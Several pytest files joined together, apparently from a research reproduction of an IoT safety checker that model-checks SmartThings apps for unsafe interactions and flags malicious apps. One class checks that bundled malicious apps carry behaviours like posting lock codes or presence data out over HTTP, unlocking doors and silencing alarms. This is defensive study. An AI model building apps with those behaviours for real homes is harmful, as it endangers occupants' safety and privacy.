            for declaration in app.device_inputs:
                assert capability(declaration.capability), (
                    name, declaration.capability)

    def test_every_app_type_inferable(self, registry):
        from repro.translator.types import infer_app_types

        for app in registry.values():
            engine = infer_app_types(app)
            assert engine.globals


class TestGroups:
    def test_six_expert_groups(self):
        assert len(EXPERT_GROUPS) == 6

    def test_expert_groups_buildable(self, generator):
        for group_name in EXPERT_GROUPS:
            config = expert_configuration(group_name)
            assert config.validate() == []
            system = generator.build(config)
            assert system.apps

    def test_expert_group_apps_exist(self, registry):
        for group_name in EXPERT_GROUPS:
            config = expert_configuration(group_name)
            for app_config in config.apps:
                assert app_config.app in registry, (group_name,
                                                    app_config.app)

    def test_unknown_group_raises(self):
        with pytest.raises(KeyError):
            expert_configuration("group99")

    def test_ten_volunteer_groups_of_about_five(self, registry):
        assert len(VOLUNTEER_GROUPS) == 10
        for group_name, apps in VOLUNTEER_GROUPS.items():
            assert 4 <= len(apps) <= 6, group_name
            for app in apps:
                assert app in registry, (group_name, app)

    def test_group_builders_are_fresh(self):
        first = GROUP_BUILDERS["group1-entry-and-mode"]()
        second = GROUP_BUILDERS["group1-entry-and-mode"]()
        assert first is not second
        first.add_device("extra", "smart-outlet")
        assert second.device("extra") is None


class TestMaliciousBehaviors:
    """Each malicious app must carry its documented attack behaviour."""

    def test_fake_co_alarm_raises_fake_event(self, malicious_apps):
        source = malicious_apps["Fake CO Alarm"].source
        assert "sendEvent" in source or "createEvent" in source

    def test_exfiltrators_use_http(self, malicious_apps):
        for name in ("Lock Code Exfiltrator", "Presence Tracker"):
            assert "httpPost" in malicious_apps[name].source, name

    def test_alarm_neutralizer_unsubscribes(self, malicious_apps):
        assert "unsubscribe" in malicious_apps["Alarm Neutralizer"].source

    def test_door_openers_unlock_or_open(self, malicious_apps):
        for name in ("Away Door Unlocker", "Night Lock Opener",
                     "Midnight Door Opener"):
            source = malicious_apps[name].source
            assert ("unlock" in source) or (".open()" in source), name
