"""Unit tests for the Groovy interpreter: handler semantics end-to-end.

Each test builds a tiny app around one language feature, installs it into
a small system, fires an event, and checks the physical effect - the
interpreter is exercised exactly the way the checker exercises it.
"""

import pytest

from repro.checker.monitor import SafetyMonitor
from repro.config.schema import SystemConfiguration
from repro.model.cascade import Cascade
from repro.model.events import ExternalEvent
from repro.model.generator import ModelGenerator
from repro.properties import build_properties

from tests.helpers import make_app

_PREFS = '''
preferences { section("s") {
    input "motion1", "capability.motionSensor"
    input "switch1", "capability.switch"
    input "switches", "capability.switch", multiple: true
    input "threshold", "number", required: false
} }
'''


def run_app(body, bindings=None, value="active", extra_devices=()):
    """Install one inline app, fire a motion event, return (state, cascade)."""
    source = ('definition(name: "T", namespace: "t", author: "t", '
              'description: "d", category: "c")\n') + _PREFS + body
    app = make_app(source)
    config = SystemConfiguration()
    config.add_device("m", "smartsense-motion")
    config.add_device("s1", "smart-outlet")
    config.add_device("s2", "smart-outlet")
    for name, type_name in extra_devices:
        config.add_device(name, type_name)
    config.add_app("T", bindings or {"motion1": "m", "switch1": "s1",
                                     "switches": ["s1", "s2"]})
    system = ModelGenerator({"T": app}).build(config)
    state = system.initial_state()
    monitor = SafetyMonitor(system, build_properties())
    cascade = Cascade(system, state, monitor)
    cascade.run_external(ExternalEvent("sensor", device="m",
                                       attribute="motion", value=value))
    return state, cascade


class TestCommandsAndEvents:
    def test_simple_command(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { switch1.on() }
''')
        assert state.attribute("s1", "switch") == "on"

    def test_group_command_hits_every_device(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { switches.on() }
''')
        assert state.attribute("s1", "switch") == "on"
        assert state.attribute("s2", "switch") == "on"

    def test_spread_command(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { switches*.on() }
''')
        assert state.attribute("s2", "switch") == "on"

    def test_event_value_dispatch(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion", h) }
def h(evt) {
    if (evt.value == "active") { switch1.on() } else { switch1.off() }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_value_filter_blocks_other_values(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.inactive", h) }
def h(evt) { switch1.on() }
''', value="active")
        assert state.attribute("s1", "switch") == "off"


class TestControlFlow:
    def test_if_else(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (threshold) { switch1.on() } else { switch1.off() }
}
''')
        assert state.attribute("s1", "switch") == "off"  # threshold unbound

    def test_for_in_over_group(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    for (s in switches) { s.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"
        assert state.attribute("s2", "switch") == "on"

    def test_while_loop(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    def i = 0
    while (i < 2) { switches[i].on()\n i = i + 1 }
}
''')
        assert state.attribute("s2", "switch") == "on"

    def test_switch_statement(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion", h) }
def h(evt) {
    switch (evt.value) {
        case "active": switch1.on()\n break
        default: switch1.off()
    }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_ternary_and_elvis(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    def level = threshold ?: 0
    def target = level > 10 ? "skip" : "go"
    if (target == "go") { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_early_return(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (evt.value == "active") { return }
    switch1.on()
}
''')
        assert state.attribute("s1", "switch") == "off"


class TestStateMapAndHelpers:
    def test_persistent_state_map(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    state.count = (state.count ?: 0) + 1
    if (state.count >= 1) { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"
        assert state.app_state("T")["count"] == 1

    def test_private_helper_call(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { turnAllOn() }
private turnAllOn() { switches.on() }
''')
        assert state.attribute("s2", "switch") == "on"

    def test_helper_with_args_and_return(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (pick(switches)) { pick(switches).on() }
}
private pick(list) { return list.first() }
''')
        assert state.attribute("s1", "switch") == "on"

    def test_closure_over_group(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    switches.each { it.on() }
}
''')
        assert state.attribute("s2", "switch") == "on"

    def test_find_all_on_group(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    def offOnes = switches.findAll { it.currentSwitch == "off" }
    offOnes.each { it.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"
        assert state.attribute("s2", "switch") == "on"


class TestDeviceReads:
    def test_current_attribute_read(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (switch1.currentSwitch == "off") { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_current_value_api(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (switch1.currentValue("switch") == "off") { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_latest_value_api(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (switch1.latestValue("switch") != "on") { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"


class TestPlatformAPIs:
    def test_send_sms_recorded(self):
        _state, cascade = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { sendSms("+1-555-0100", "motion!") }
''')
        assert any("SMS" in s.text for s in cascade.steps
                   if s.kind == "message")

    def test_send_push_recorded(self):
        _state, cascade = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { sendPush("motion!") }
''')
        assert any("push" in s.text for s in cascade.steps
                   if s.kind == "message")

    def test_run_in_schedules_callback(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { runIn(600, later) }
def later() { switch1.on() }
''')
        assert ("T", "later", False) in state.schedules

    def test_gstring_interpolation_in_log(self):
        _state, cascade = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { log.debug "motion is ${evt.value}" }
''')
        assert any("motion is active" in s.text for s in cascade.steps
                   if s.kind == "log")

    def test_location_mode_read(self):
        state, _ = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (location.mode == "Home") { switch1.on() }
}
''')
        assert state.attribute("s1", "switch") == "on"

    def test_unmodeled_api_logged_not_fatal(self):
        """A call to an unmodeled platform API is logged and skipped -
        exploration must survive arbitrary market-app code."""
        _state, cascade = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { noSuchMethodAnywhere(1, 2, 3)\n switch1.on() }
''')
        assert any("unmodeled API" in s.text for s in cascade.steps
                   if s.kind == "log")

    def test_execution_error_contained(self):
        """A genuine evaluation error is contained to the handler run."""
        state, cascade = run_app('''
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) { def x = [1]\n x[0][0][0] = 2 }
''')
        assert any("execution error" in s.text for s in cascade.steps
                   if s.kind == "log")
        # the system is still alive: ground truth updated
        assert state.attribute("m", "motion") == "active"
