"""Paper-level integration tests: each maps to a claim in §10/§11.

These are the slowest tests in the suite; they run the real pipeline on
the bundled corpus with small exploration bounds.
"""

import pytest

from repro import check_configuration
from repro.checker.explorer import Explorer, ExplorerOptions, verify
from repro.corpus.groups import EXPERT_GROUPS, expert_configuration
from repro.properties import build_properties, select_relevant


class TestFig7EndToEnd:
    """§8's running example: Auto Mode Change + Unlock Door."""

    def test_violation_found(self, alice_config):
        result = check_configuration(alice_config, max_events=2)
        assert "P06" in result.violated_property_ids

    def test_counterexample_chain(self, alice_config, generator):
        system = generator.build(alice_config)
        result = verify(system, build_properties(), max_events=1)
        steps = result.counterexample_for("P06").all_steps()
        texts = [s.text for s in steps]
        # (1) not present generated, (2) mode -> Away, (3) unlock command
        assert any("not present" in t for t in texts)
        assert any("location.mode = Away" in t for t in texts)
        assert any("unlock" in t for t in texts)

    def test_four_app_chain_detectable(self, generator):
        """Fig 8a: Light Follows Me + Light Off When Close + Good Night +
        Unlock Door interact to unlock the door at night."""
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("frontDoorLock", "zwave-lock")
        config.add_device("frontContact", "smartsense-multi")
        config.add_device("livRoomMotion", "smartsense-motion")
        config.add_device("light1", "smart-outlet")
        config.add_device("light2", "smart-outlet")
        config.association["main_door_lock"] = "frontDoorLock"
        config.add_app("Light Follows Me", {
            "motion1": "livRoomMotion", "minutes1": 1,
            "switches": ["light1"]})
        config.add_app("Light Off When Close", {
            "contact1": "frontContact", "switches": ["light2"]})
        config.add_app("Good Night", {
            "lights": ["light1", "light2"],
            "motionSensor": "livRoomMotion", "nightMode": "Night"})
        config.add_app("Unlock Door", {"lock1": "frontDoorLock"})
        system = __import__("repro").build_system(config)
        result = verify(system, build_properties(), max_events=4,
                        max_states=150000)
        ce = result.counterexample_for("P07")
        assert ce is not None
        apps = set(ce.violation.apps)
        assert "Unlock Door" in apps
        assert "Good Night" in apps


class TestTable5Shape:
    """Market apps with expert configurations (§10.2)."""

    @pytest.fixture(scope="class")
    def group_results(self, generator):
        results = {}
        for group_name in EXPERT_GROUPS:
            config = expert_configuration(group_name)
            system = generator.build(config)
            properties = select_relevant(system, build_properties())
            options = ExplorerOptions(max_events=2, max_states=60000)
            results[group_name] = Explorer(system, properties, options).run()
        return results

    def test_every_violation_type_found(self, group_results):
        kinds = set()
        for result in group_results.values():
            kinds.update(v.property.kind for v in result.violations)
        assert {"conflict", "repeat", "invariant"} <= kinds

    def test_conflicting_commands_pair(self, group_results):
        """Table 5 row 1: (Brighten Dark Places, Let There Be Dark)."""
        lighting = group_results["group2-lighting"]
        conflict = next(v for v in lighting.violations
                        if v.property.kind == "conflict"
                        and "Brighten Dark Places" in v.apps)
        assert "Let There Be Dark!" in conflict.apps

    def test_unsafe_physical_state_found(self, group_results):
        entry = group_results["group1-entry-and-mode"]
        assert "P06" in entry.violated_property_ids

    def test_total_violations_in_paper_band(self, group_results):
        """38 violations of 11 properties in the paper; the shape (tens of
        violations, ~10 properties) must hold."""
        total = sum(len(r.violations) for r in group_results.values())
        properties = set()
        for result in group_results.values():
            properties.update(result.violated_property_ids)
        assert 15 <= total <= 80
        assert 8 <= len(properties) <= 20


class TestFailuresAddViolations:
    """§10.2: device/communication failures violate additional properties."""

    def test_failures_strictly_add(self, generator):
        config = expert_configuration("group1-entry-and-mode")
        plain = generator.build(config)
        failing = generator.build(config, enable_failures=True)
        properties = select_relevant(plain, build_properties())
        options = ExplorerOptions(max_events=2, max_states=60000)
        base = Explorer(plain, properties, options).run()
        with_failures = Explorer(failing, properties, options).run()
        assert set(base.violated_property_ids) <= set(
            with_failures.violated_property_ids)
        assert len(with_failures.violations) > len(base.violations)

    def test_robustness_gap_found(self, generator):
        """'None of the analyzed apps check if the commands sent to the
        actuators were actually carried out' - P45 fires under failures."""
        config = expert_configuration("group1-entry-and-mode")
        failing = generator.build(config, enable_failures=True)
        properties = select_relevant(failing, build_properties())
        result = Explorer(failing, properties,
                          ExplorerOptions(max_events=2,
                                          max_states=60000)).run()
        assert "P45" in result.violated_property_ids


class TestAttributionAccuracy:
    """§10.3: 9/9 malicious apps attributed, quickly sampled here."""

    @pytest.mark.parametrize("app_name", [
        "Fake CO Alarm", "Away Door Unlocker", "Smoke Valve Closer"])
    def test_malicious_sample_flagged(self, registry, app_name):
        from repro.attribution import OutputAnalyzer
        from repro.attribution.volunteers import full_house

        analyzer = OutputAnalyzer(registry, max_configs=8)
        report = analyzer.attribute(app_name, full_house())
        assert report.verdict == "malicious"
        assert report.phase1.ratio == 1.0

    def test_benign_sample_not_flagged(self, registry):
        from repro.attribution import OutputAnalyzer
        from repro.attribution.volunteers import full_house

        analyzer = OutputAnalyzer(registry, max_configs=8)
        report = analyzer.attribute("Smoke Alarm Siren", full_house())
        assert report.verdict in ("safe", "misconfiguration")


class TestVolunteerStudyShape:
    """§10.2 Table 6: non-expert configurations violate more properties."""

    def test_maximalist_worse_than_expert(self, registry, generator):
        from repro.attribution import volunteer_configuration

        config = volunteer_configuration("vgroup02",
                                         "volunteer1-maximalist", registry)
        system = generator.build(config, strict=False)
        properties = select_relevant(system, build_properties())
        result = Explorer(system, properties,
                          ExplorerOptions(max_events=2,
                                          max_states=60000)).run()
        # the documented outcome: heater + AC both selected for every
        # climate app drives thermostat-family violations and cross-app
        # command conflicts
        assert result.has_violations
        assert any(v.property.id in ("P01", "P02", "P03", "P04", "P39",
                                     "P40")
                   for v in result.violations)
        assert any("Virtual Thermostat" in v.apps
                   for v in result.violations)
