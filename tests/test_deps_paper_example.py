"""Reproduce the paper's §5 worked example exactly.

Table 2 lists five apps and seven event handlers; Figure 4a is the
dependency graph; Table 3 / Figure 4b derive the related sets
{3}, {2,4}, {0,1}, {1,5}, {1,2,6} (vertex ids per Table 2).
"""

import pytest

from repro.deps import analyze_apps
from repro.deps.related import build_graph

#: the Table 2 apps, in vertex-id order of their handlers
PAPER_APPS = ["Brighten Dark Places", "Let There Be Dark!",
              "Auto Mode Change", "Unlock Door", "Big Turn On"]

#: Table 2: handler -> vertex id
VERTEX_IDS = {
    ("Brighten Dark Places", "contactOpenHandler"): 0,
    ("Let There Be Dark!", "contactHandler"): 1,
    ("Auto Mode Change", "presenceHandler"): 2,
    ("Unlock Door", "appTouch"): 3,
    ("Unlock Door", "changedLocationMode"): 4,
    ("Big Turn On", "appTouch"): 5,
    ("Big Turn On", "changedLocationMode"): 6,
}

#: Table 3c / Figure 4b
EXPECTED_RELATED_SETS = [
    {3},
    {2, 4},
    {0, 1},
    {1, 5},
    {1, 2, 6},
]


@pytest.fixture(scope="module")
def paper_apps(request):
    from repro.corpus import load_market_apps

    market = load_market_apps()
    return [market[name] for name in PAPER_APPS]


@pytest.fixture(scope="module")
def analysis(paper_apps):
    return analyze_apps(paper_apps)


def _paper_id(vertex):
    (app, handler), = [(a, h) for a, h in vertex.members]
    return VERTEX_IDS[(app, handler)]


class TestTable2Handlers:
    def test_seven_handlers(self, paper_apps):
        graph = build_graph(paper_apps)
        assert len(graph.vertices) == 7

    def test_every_table2_handler_present(self, paper_apps):
        graph = build_graph(paper_apps)
        members = {m for v in graph.vertices for m in v.members}
        assert members == set(VERTEX_IDS)

    def test_brighten_dark_places_io(self, paper_apps):
        graph = build_graph(paper_apps)
        vertex = next(v for v in graph.vertices
                      if ("Brighten Dark Places", "contactOpenHandler")
                      in v.members)
        inputs = {(d.attribute, d.value) for d in vertex.inputs}
        outputs = {(d.attribute, d.value) for d in vertex.outputs}
        assert ("contact", "open") in inputs
        assert any(attr == "illuminance" for attr, _v in inputs)
        assert ("switch", "on") in outputs

    def test_let_there_be_dark_outputs_conflict(self, paper_apps):
        graph = build_graph(paper_apps)
        vertex = next(v for v in graph.vertices
                      if ("Let There Be Dark!", "contactHandler") in v.members)
        outputs = {(d.attribute, d.value) for d in vertex.outputs}
        assert ("switch", "on") in outputs
        assert ("switch", "off") in outputs

    def test_auto_mode_change_emits_mode(self, paper_apps):
        graph = build_graph(paper_apps)
        vertex = next(v for v in graph.vertices
                      if ("Auto Mode Change", "presenceHandler") in v.members)
        assert any(d.attribute == "mode" for d in vertex.outputs)


class TestFigure4aGraph:
    def test_vertex2_children_are_4_and_6(self, analysis):
        """Vertex 2 (presenceHandler) has children 4 and 6 via location/mode."""
        merged = analysis.merged_graph
        by_paper_id = {_paper_id(v): v for v in merged.vertices}
        children = {
            _paper_id(merged.vertices[c])
            for c in merged.children[by_paper_id[2].id]}
        assert children == {4, 6}

    def test_leaves_match_figure(self, analysis):
        """All vertices except 2 are leaves."""
        merged = analysis.merged_graph
        leaf_ids = {_paper_id(v) for v in merged.leaves()}
        assert leaf_ids == {0, 1, 3, 4, 5, 6}


class TestTable3RelatedSets:
    def test_final_related_sets_match_table3c(self, analysis):
        got = sorted(
            tuple(sorted(_paper_id(analysis.merged_graph.vertices[vid])
                         for vid in related))
            for related in analysis.related_sets)
        expected = sorted(tuple(sorted(s)) for s in EXPECTED_RELATED_SETS)
        assert got == expected

    def test_five_final_sets(self, analysis):
        assert len(analysis.related_sets) == 5

    def test_no_set_is_subset_of_another(self, analysis):
        sets = analysis.related_sets
        for a in sets:
            for b in sets:
                if a is not b:
                    assert not a < b

    def test_conflict_merge_joined_0_and_1(self, analysis):
        """Nodes 0 and 1 conflict on switch/on vs switch/off -> same set."""
        merged = analysis.merged_graph
        ids = {(_paper_id(v), v.id) for v in merged.vertices}
        id0 = next(v for p, v in ids if p == 0)
        id1 = next(v for p, v in ids if p == 1)
        assert any(id0 in s and id1 in s for s in analysis.related_sets)

    def test_scale_ratio_above_one(self, analysis):
        assert analysis.scale_ratio > 1.0
