"""Tests for dynamic-device-discovery detection (§11 limitation 2)."""

import pytest

from repro.corpus import load_discovery_apps
from repro.smartapp import reject_discovery_apps, scan_app, scan_registry

from tests.helpers import make_app


def app_with_body(body):
    return make_app('''
definition(name: "D", namespace: "t", author: "t", description: "d",
           category: "c")
preferences { section("s") { input "m", "capability.motionSensor" } }
def installed() { subscribe(m, "motion", h) }
''' + body)


class TestScanApp:
    def test_clean_app_passes(self):
        app = app_with_body("def h(evt) { }")
        report = scan_app(app)
        assert not report.uses_discovery
        assert "no dynamic device discovery" in report.describe()

    def test_get_child_devices_flagged(self):
        app = app_with_body("def h(evt) { getChildDevices().each { } }")
        report = scan_app(app)
        assert report.uses_discovery
        assert report.findings[0].kind == "api"

    def test_get_all_child_devices_flagged(self):
        app = app_with_body("def h(evt) { def d = getAllChildDevices() }")
        assert scan_app(app).uses_discovery

    def test_location_devices_property_flagged(self):
        app = app_with_body("def h(evt) { location.devices.each { } }")
        report = scan_app(app)
        assert report.uses_discovery
        assert report.findings[0].kind == "property"

    def test_finding_carries_line(self):
        app = app_with_body("def h(evt) { getChildDevices() }")
        assert scan_app(app).findings[0].line > 0

    def test_location_mode_not_flagged(self):
        # reading location.mode is normal; only device enumeration flags
        app = app_with_body("def h(evt) { if (location.mode == 'Home') { } }")
        assert not scan_app(app).uses_discovery


class TestBundledDiscoveryApps:
    """The four §10.1 apps IotSan cannot handle must all be detected."""

    def test_four_apps_bundled(self):
        assert sorted(load_discovery_apps()) == [
            "Alarm Manager", "Auto Camera", "Auto Camera 2",
            "Midnight Camera"]

    def test_all_four_flagged(self):
        flagged = scan_registry(load_discovery_apps())
        assert len(flagged) == 4

    def test_main_corpus_is_clean(self, registry):
        assert scan_registry(registry) == {}

    def test_reject_splits_registry(self, registry):
        combined = dict(registry)
        combined.update(load_discovery_apps())
        analyzable, flagged = reject_discovery_apps(combined)
        assert set(flagged) == set(load_discovery_apps())
        assert set(analyzable) == set(registry)


class TestScanCli:
    def test_scan_clean(self, capsys):
        from repro.cli import main

        assert main(["scan"]) == 0
        assert "no dynamic device discovery" in capsys.readouterr().out

    def test_scan_flags_bundled(self, capsys):
        from repro.cli import main

        assert main(["scan", "--include-unverifiable"]) == 1
        out = capsys.readouterr().out
        assert "Midnight Camera" in out
        assert "4 app(s) flagged" in out
