"""Tests for the pluggable exploration engine (frontiers, strategies,
visited protocol wiring, and parallel batch verification)."""

import pytest

from repro.engine import (
    BreadthFirstFrontier,
    DepthFirstFrontier,
    EngineOptions,
    ExplorationEngine,
    PriorityFrontier,
    VerificationJob,
    make_frontier,
    register_strategy,
    strategy_names,
    verify,
    verify_many,
)
from repro.engine.core import _Node
from repro.model.state import ModelState
from repro.properties import build_properties


def _node(depth, pending=()):
    state = ModelState(pending=pending)
    return _Node(state, depth)


class TestFrontiers:
    def test_dfs_is_lifo(self):
        frontier = DepthFirstFrontier()
        first, second = _node(1), _node(2)
        frontier.push(first)
        frontier.push(second)
        assert frontier.pop() is second
        assert frontier.pop() is first

    def test_bfs_is_fifo(self):
        frontier = BreadthFirstFrontier()
        first, second = _node(1), _node(2)
        frontier.push(first)
        frontier.push(second)
        assert frontier.pop() is first
        assert frontier.pop() is second

    def test_priority_orders_by_key(self):
        frontier = PriorityFrontier(priority=lambda node: -node.depth)
        shallow, deep = _node(1), _node(5)
        frontier.push(shallow)
        frontier.push(deep)
        assert frontier.pop() is deep

    def test_default_priority_prefers_shallow(self):
        frontier = PriorityFrontier()
        shallow, deep = _node(0), _node(3)
        frontier.push(deep)
        frontier.push(shallow)
        assert frontier.pop() is shallow

    def test_len_and_bool(self):
        frontier = DepthFirstFrontier()
        assert not frontier and len(frontier) == 0
        frontier.push(_node(0))
        assert frontier and len(frontier) == 1


class TestStrategyRegistry:
    def test_builtins_registered(self):
        assert {"dfs", "bfs", "priority"} <= set(strategy_names())

    def test_unknown_strategy_raises(self):
        with pytest.raises(KeyError):
            make_frontier("simulated-annealing", EngineOptions())

    def test_registration_is_pluggable(self):
        calls = []

        def factory(options):
            calls.append(options)
            return DepthFirstFrontier()

        register_strategy("test-strategy", factory)
        try:
            options = EngineOptions(strategy="test-strategy")
            assert isinstance(options.make_frontier(), DepthFirstFrontier)
            assert calls == [options]
        finally:
            from repro.engine.strategy import _STRATEGIES
            _STRATEGIES.pop("test-strategy", None)

    def test_options_build_frontier_by_name(self):
        assert isinstance(EngineOptions(strategy="bfs").make_frontier(),
                          BreadthFirstFrontier)


class TestEngineStrategies:
    """All strategies explore the same bounded space (order differs)."""

    @pytest.mark.parametrize("strategy", ["dfs", "bfs", "priority"])
    def test_same_coverage_and_findings(self, alice_system, strategy):
        baseline = verify(alice_system, build_properties(), max_events=2)
        result = verify(alice_system, build_properties(), max_events=2,
                        strategy=strategy)
        assert result.states_explored == baseline.states_explored
        assert result.violated_property_ids == baseline.violated_property_ids

    def test_fingerprint_store_matches_exact(self, alice_system):
        exact = verify(alice_system, build_properties(), max_events=2)
        fingerprint = verify(alice_system, build_properties(), max_events=2,
                             visited="fingerprint")
        assert fingerprint.states_explored == exact.states_explored
        assert (fingerprint.violated_property_ids
                == exact.violated_property_ids)

    def test_unknown_visited_store_raises(self):
        with pytest.raises(KeyError):
            EngineOptions(visited="quantum").make_visited()

    def test_visited_stats_on_result(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        assert result.visited_stats.get("stored", 0) > 0

    def test_states_per_second(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        assert result.states_per_second > 0


class TestExplorerShim:
    def test_shim_names_are_engine_objects(self):
        from repro.checker import explorer

        assert explorer.Explorer is ExplorationEngine
        assert explorer.ExplorerOptions is EngineOptions
        assert explorer.verify is verify

    def test_shim_verify_still_works(self, alice_system):
        from repro.checker.explorer import verify as shim_verify

        result = shim_verify(alice_system, build_properties(), max_events=1)
        assert "P06" in result.violated_property_ids


class TestVerifyMany:
    @pytest.fixture()
    def jobs(self, alice_config):
        options = EngineOptions(max_events=1)
        return [VerificationJob("job%d" % index, alice_config, options,
                                strict=False)
                for index in range(4)]

    def test_serial_inline_execution(self, jobs):
        batch = verify_many(jobs, workers=1)
        assert len(batch) == 4 and not batch.errors
        assert batch.workers == 1
        for result in batch:
            assert "P06" in result.violated_property_ids

    def test_parallel_matches_serial(self, jobs):
        serial = verify_many(jobs, workers=1)
        parallel = verify_many(jobs, workers=2)
        assert not parallel.errors
        assert parallel.states_explored == serial.states_explored
        assert (parallel.violated_property_ids
                == serial.violated_property_ids)

    def test_merged_statistics(self, jobs):
        batch = verify_many(jobs, workers=1)
        one = batch["job0"]
        assert batch.states_explored == one.states_explored * 4
        assert batch.transitions == one.transitions * 4
        assert batch.job_seconds >= one.elapsed
        assert batch.has_violations
        summary = batch.summary()
        assert "job0" in summary and "4 job(s)" in summary

    def test_submission_order_preserved(self, jobs):
        batch = verify_many(jobs, workers=2)
        assert list(batch.results) == ["job0", "job1", "job2", "job3"]

    def test_job_errors_reported_not_raised(self, alice_config):
        bad = VerificationJob("bad", alice_config,
                              EngineOptions(visited="quantum"))
        good = VerificationJob("good", alice_config,
                               EngineOptions(max_events=1), strict=False)
        batch = verify_many([bad, good], workers=1)
        assert "bad" in batch.errors
        assert "KeyError" in batch.errors["bad"]
        assert "good" in batch.results

    def test_per_job_options(self, alice_config):
        jobs = [VerificationJob("shallow", alice_config,
                                EngineOptions(max_events=1), strict=False),
                VerificationJob("deep", alice_config,
                                EngineOptions(max_events=2), strict=False)]
        batch = verify_many(jobs, workers=1)
        assert (batch["deep"].states_explored
                > batch["shallow"].states_explored)

    def test_check_configurations_facade(self, alice_config):
        from repro import check_configurations

        batch = check_configurations({"alice": alice_config}, workers=1,
                                     max_events=1)
        assert "P06" in batch.violated_property_ids


class TestVolunteerJobs:
    def test_seventy_jobs(self, registry):
        from repro.attribution.volunteers import volunteer_verification_jobs

        jobs = volunteer_verification_jobs(registry)
        assert len(jobs) == 70
        names = {job.name for job in jobs}
        assert "vgroup01/volunteer1-maximalist" in names

    def test_group_filter(self, registry):
        from repro.attribution.volunteers import volunteer_verification_jobs

        jobs = volunteer_verification_jobs(registry, groups=["vgroup02"],
                                           profiles=["volunteer1-maximalist"])
        assert [job.name for job in jobs] == [
            "vgroup02/volunteer1-maximalist"]
