"""Tests for the pluggable exploration engine (frontiers, strategies,
visited protocol wiring, and parallel batch verification)."""

import pytest

from repro.engine import (
    BreadthFirstFrontier,
    DepthFirstFrontier,
    EngineOptions,
    ExplorationEngine,
    PriorityFrontier,
    VerificationJob,
    make_frontier,
    register_strategy,
    strategy_names,
    verify,
    verify_many,
)
from repro.engine.core import _Node
from repro.model.state import ModelState
from repro.properties import build_properties


def _node(depth, pending=()):
    state = ModelState(pending=pending)
    return _Node(state, depth)


class TestFrontiers:
    def test_dfs_is_lifo(self):
        frontier = DepthFirstFrontier()
        first, second = _node(1), _node(2)
        frontier.push(first)
        frontier.push(second)
        assert frontier.pop() is second
        assert frontier.pop() is first

    def test_bfs_is_fifo(self):
        frontier = BreadthFirstFrontier()
        first, second = _node(1), _node(2)
        frontier.push(first)
        frontier.push(second)
        assert frontier.pop() is first
        assert frontier.pop() is second

    def test_priority_orders_by_key(self):
        frontier = PriorityFrontier(priority=lambda node: -node.depth)
        shallow, deep = _node(1), _node(5)
        frontier.push(shallow)
        frontier.push(deep)
        assert frontier.pop() is deep

    def test_default_priority_prefers_shallow(self):
        frontier = PriorityFrontier()
        shallow, deep = _node(0), _node(3)
        frontier.push(deep)
        frontier.push(shallow)
        assert frontier.pop() is shallow

    def test_len_and_bool(self):
        frontier = DepthFirstFrontier()
        assert not frontier and len(frontier) == 0
        frontier.push(_node(0))
        assert frontier and len(frontier) == 1


class TestStrategyRegistry:
    def test_builtins_registered(self):
        assert {"dfs", "bfs", "priority"} <= set(strategy_names())

    def test_unknown_strategy_raises(self):
        with pytest.raises(KeyError):
            make_frontier("simulated-annealing", EngineOptions())

    def test_registration_is_pluggable(self):
        calls = []

        def factory(options):
            calls.append(options)
            return DepthFirstFrontier()

        register_strategy("test-strategy", factory)
        try:
            options = EngineOptions(strategy="test-strategy")
            assert isinstance(options.make_frontier(), DepthFirstFrontier)
            assert calls == [options]
        finally:
            from repro.engine.strategy import _STRATEGIES
            _STRATEGIES.pop("test-strategy", None)

    def test_options_build_frontier_by_name(self):
        assert isinstance(EngineOptions(strategy="bfs").make_frontier(),
                          BreadthFirstFrontier)


class TestEngineStrategies:
    """All strategies explore the same bounded space (order differs)."""

